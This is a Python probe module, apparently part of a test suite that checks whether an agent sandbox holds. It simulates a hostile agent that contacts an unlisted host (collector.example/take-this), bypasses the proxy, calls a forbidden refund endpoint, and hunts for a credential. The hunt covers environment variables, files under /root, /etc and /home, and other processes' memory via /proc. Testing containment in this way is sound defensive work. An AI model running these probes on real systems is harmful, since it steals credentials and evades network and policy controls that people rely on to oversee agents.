"""What a curious or hostile agent would try first. The tour and the tests run these and check that nothing comes of it.

`host`     asks for a host that no rule names, through the proxy that the environment offers
`method`   calls the order service in a way that the policy forbids
`direct`   calls a URL past every proxy, straight to its address, and looks up a host that no rule names
`secrets`  looks for a credential wherever this process can read. It is told only the credential's SHA-256, so that
           neither this code nor the message it got can be what it finds.
"""

import hashlib
import json
import os
import re
import socket
import urllib.error
import urllib.request

TIMEOUT_SECONDS = 30
FILE_BYTES_MAX = 1 << 20
MEMORY_BYTES_MAX = 256 << 20
CANDIDATE = re.compile(rb"[A-Za-z0-9_-]{20,128}")
PLACES = ["/home", "/root", "/etc", "/workspace", "/run", "/tmp", "/var", "/agent", "/dev/shm", "/proc/self", "/proc/1"]


def run(what, headers):
    kind, _, rest = what.partition(" ")
    if kind == "host":
        return attempt(urllib.request.Request("http://collector.example/take-this", headers=headers))
    if kind == "method":
        url = f"{os.environ['TOOL_URL_ORDERS']}/orders/1042/refund"
        return attempt(urllib.request.Request(url, b"{}", {"Content-Type": "application/json", **headers}))
    if kind == "direct":
        return direct(rest.strip())
    if kind == "secrets":
        return secrets(rest.strip())
    return {"response": "I can probe: host, method, direct URL, secrets SHA256."}


def direct(url):
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
    sent = {"method": "GET", "url": url, "headers": {}}
    with opener.open(url, timeout=TIMEOUT_SECONDS) as answer:
        status = answer.status
    try:
        found = str(socket.getaddrinfo("collector.example", 443)[0][4])
    except OSError as error:
        found = str(error)
    return {"response": "I went straight there.", "sent": sent, "status": status, "collector.example": found}


def attempt(request):
    tried = {"method": request.get_method(), "url": request.full_url}
    try:
        with urllib.request.urlopen(request, timeout=TIMEOUT_SECONDS) as answer:
            return {"response": "It worked.", "tried": tried, "status": answer.status, "refusal": None}
    except urllib.error.HTTPError as refusal:
        text = refusal.read().decode(errors="replace")
        return {"response": "It was refused.", "tried": tried, "status": refusal.code, "refusal": as_json(text)}
    except OSError as error:
        return {"response": "It failed.", "tried": tried, "status": None, "refusal": str(error)}


def as_json(text):
    try:
        return json.loads(text)
    except ValueError:
        return text


def secrets(digest):
    looked, found = {}, []
    for kind, places in (("environment", environments()), ("files", files()), ("memory", memories())):
        looked[kind] = 0
        for place, content in places:
            looked[kind] += 1
            if holds(content, digest):
                found.append(place)
    counts = ", ".join(f"{count} {kind}" for kind, count in looked.items())
    return {"response": f"I looked through {counts} and found {len(found)} credentials.", "looked": looked, "found": found}


def holds(content, digest):
    return any(hashlib.sha256(word).hexdigest() == digest for word in set(CANDIDATE.findall(content)))


def environments():
    yield "os.environ", "\n".join(f"{key} {value}" for key, value in os.environ.items()).encode()
    for process in processes():
        for name in ("environ", "cmdline"):
            yield from readable(f"/proc/{process}/{name}")


def files():
    for place in PLACES:
        for folder, below, names in os.walk(place):
            if folder.startswith("/proc"):
                below.clear()
            for name in names:
                path = os.path.join(folder, name)
                if os.path.isfile(path) and not path.endswith("/mem"):
                    yield from readable(path)


def readable(path):
    try:
        descriptor = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
    except OSError:
        return
    with os.fdopen(descriptor, "rb") as file:
        try:
            content = file.read(FILE_BYTES_MAX)
        except OSError:
            return
    yield path, content or b""


def memories():
    """Each writable piece of memory that this process may read, its own and its neighbours'."""
    left = MEMORY_BYTES_MAX
    for process in processes():
        for start, size in regions(process):
            if size > left:
                return
            left -= size
            try:
                with open(f"/proc/{process}/mem", "rb", buffering=0) as memory:
                    memory.seek(start)
                    yield f"/proc/{process}/mem", memory.read(size) or b""
            except (OSError, ValueError, OverflowError):
                continue


def regions(process):
    try:
        with open(f"/proc/{process}/maps", encoding="ascii", errors="replace") as maps:
            lines = maps.read().splitlines()
    except OSError:
        return
    for line in lines:
        span, access = line.split()[:2]
        if access.startswith("rw"):
            start, end = (int(part, 16) for part in span.split("-"))
            yield start, end - start


def processes():
    try:
        return [name for name in os.listdir("/proc") if name.isdigit()]
    except OSError:
        return []
